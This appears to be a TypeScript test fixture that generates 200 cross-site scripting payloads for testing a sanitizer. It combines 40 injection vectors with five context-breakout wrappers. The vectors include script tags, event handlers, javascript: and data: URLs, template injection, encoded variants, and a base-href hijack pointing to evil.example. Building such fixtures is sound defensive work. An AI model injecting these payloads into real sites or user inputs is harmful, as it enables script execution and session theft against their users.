const call = '__hostile()'

/** Ways to inject a script into a page, each of which calls `__hostile`. */
const vectors: readonly string[] = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=data:,${call}></script>`,
  `<script>${call}//`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src/onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src=javascript:parent.${call}>`,
  `<object data=javascript:${call}>`,
  `<embed src=javascript:${call}>`,
  `<a href=javascript:${call} autofocus>x</a>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<form action=javascript:${call}><button autofocus>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href=data:text/css,*{background:red}>`,
  `<style>@import 'data:text/css,*{display:none}';*{display:none!important}</style>`,
  `<base href=//evil.example/>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `javascript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `＜script＞${call}＜/script＞`,
]

/** Text before and after a vector, to break out of its context. */
const places: readonly [before: string, after: string][] = [
  ['', ''],
  ['">', ''],
  ["'>", "<'"],
  ['</title></style></textarea>-->', '<!--'],
  ['\u202e', '\u202c' + 'x'.repeat(60)],
]

/** Two hundred. */
export const payloads: readonly string[] = places.flatMap(([before, after]) => vectors.map((vector) => before + vector + after))
